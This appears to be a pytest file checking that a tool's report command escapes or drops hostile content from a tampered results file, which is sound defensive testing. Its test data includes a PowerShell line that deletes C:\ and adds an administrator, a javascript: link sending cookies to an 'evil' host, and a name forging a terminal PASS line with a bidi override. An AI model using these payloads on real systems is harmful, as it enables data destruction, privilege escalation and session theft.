"""Issue 20, item 9: what `offlineprep report RESULTS.json` shows is computed, not echoed.

A results file is a pipeline artifact anyone with write access to the store can change. Before,
`report` printed the `powershell` text the file held (in the HTML, the JUnit failure text and the fix
script's comments), linked every catalogue URL whatever its scheme (`javascript:`), and a line end in
a host's name printed a line of its own in the terminal (a forged PASS), with a U+202E in the JUnit
test case name reversing what followed. Each attack below is a results file run through the real
`report` command.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from offlineprep import remediation as r
from offlineprep.model import CheckInfo, DocLink, Finding, Results, Status, ToolInfo
from offlineprep.pipeline import summarise, verdict_of
from offlineprep.render import json_out

EVIL = "Remove-Item -Recurse -Force C:\\; Add-LocalGroupMember -Group Administrators -Member mallory"


def _results(findings: list[Finding], catalogue: list[CheckInfo] | None = None) -> Results:
    return Results(tool=ToolInfo(version="t"), generated_at=datetime(2026, 1, 2, tzinfo=UTC),
                   verdict=verdict_of(findings), summary=summarise(findings), findings=findings,
                   catalogue=catalogue or [])


def _fail(subject: str, fix: Any = None, check: str = "path.share-full-control") -> Finding:
    return Finding(check=check, status=Status.FAIL, severity="high", subject=subject, message=f"{subject} is wrong",
                   remediation=fix)


def _report(tmp_path: Path, data: dict[str, Any]) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    source = tmp_path / "results.json"
    source.write_text(json.dumps(data), encoding="utf-8")
    outputs = {fmt: tmp_path / f"out.{fmt}" for fmt in ("html", "junit", "markdown", "fix-script")}
    args = [a for fmt, p in outputs.items() for a in (f"--{fmt}", str(p))]
    proc = subprocess.run([sys.executable, "-m", "offlineprep", "report", str(source), *args], capture_output=True,
                          text=True, env={**os.environ, "COLUMNS": "250"}, timeout=120)
    return proc, {fmt: p.read_text(encoding="utf-8-sig") for fmt, p in outputs.items() if p.exists()}


def test_a_results_file_with_hostile_fix_text_shows_the_fix_of_its_actions(tmp_path: Path) -> None:
    grant = r.grant_share("fs01.lab.test", "Exp", "LAB\\svc-vmm", "Full", account_sid="S-1-5-21-1-2-3-4",
                          before_sddl="O:SYG:SYD:(A;;0x1200a9;;;WD)")
    data = json.loads(json_out.render(_results([_fail("\\\\fs01.lab.test\\Exp", grant)])))
    data["findings"][0]["remediation"]["powershell"] = EVIL  # the typed actions stay; the text is forged
    data["findings"][0]["remediation"]["revert"] = EVIL
    proc, out = _report(tmp_path, data)
    assert proc.returncode == 1, proc.stderr
    for fmt, text in out.items():
        assert "mallory" not in text and "Remove-Item -Recurse" not in text, fmt
    assert "Grant-SmbShareAccess" in out["html"] and "Grant-SmbShareAccess" in out["junit"]
    assert json_out.load(tmp_path / "results.json").findings[0].remediation.powershell == grant.powershell  # type: ignore[union-attr]


def test_a_fix_written_as_text_is_not_echoed_from_a_file(tmp_path: Path) -> None:
    legacy = r.Remediation(summary="do this", powershell=EVIL)  # a check pack's text fix, no typed actions
    proc, out = _report(tmp_path, json.loads(json_out.render(_results([_fail("hv01", legacy)]))))
    assert proc.returncode == 1, proc.stderr
    for fmt, text in out.items():
        assert "mallory" not in text, fmt
    assert "no PowerShell taken from a results file" in out["html"]


def test_a_catalogue_link_that_is_not_https_is_plain_text(tmp_path: Path) -> None:
    info = CheckInfo(id="path.share-full-control", title="Share", severity="high", docs=[
        DocLink(title="Read me", url="javascript:fetch('//evil/'+document.cookie)"),
        DocLink(title="Old page", url="http://example.com/x"),
        DocLink(title="Microsoft", url="https://learn.microsoft.com/windows-server/storage/")])
    proc, out = _report(tmp_path, json.loads(json_out.render(_results([_fail("\\\\fs01\\Exp")], [info]))))
    assert proc.returncode == 1, proc.stderr
    html = out["html"]
    assert 'href="javascript:' not in html and 'href="http://' not in html
    assert 'href="https://learn.microsoft.com/windows-server/storage/"' in html
    assert "Read me (javascript:" in html  # shown, as text, never a link
    from offlineprep.display import https_link

    assert not https_link("javascript:alert(1)") and not https_link("JaVaScRiPt:x") and not https_link("//evil.com")


def test_a_newline_and_a_bidi_override_in_a_name_are_shown_escaped(tmp_path: Path) -> None:
    forged = "hv01\n  PASS  ad.delegation hv99: everything is fine\u202eexe.txt"
    data = json.loads(json_out.render(_results([_fail(forged)])))
    proc, out = _report(tmp_path, data)
    assert proc.returncode == 1, proc.stderr
    terminal = proc.stdout + proc.stderr
    assert not any(line.lstrip().startswith("PASS") for line in terminal.splitlines())  # no forged line
    assert "\u202e" not in terminal and "hv01\\n  PASS" in terminal and "\\u202e" in terminal
    case = next(c for c in ET.fromstring(out["junit"]).iter("testcase"))
    assert "\n" not in case.get("name", "") and "\u202e" not in case.get("name", "")
    from offlineprep.display import visible

    assert visible(forged) in case.get("name", "")
    failure = case.find("failure")
    assert failure is not None and "\n" not in (failure.get("message") or "")
    assert "\u202e" not in out["markdown"] and "\u202e" not in out["html"]
    assert "\n  PASS" not in out["markdown"]
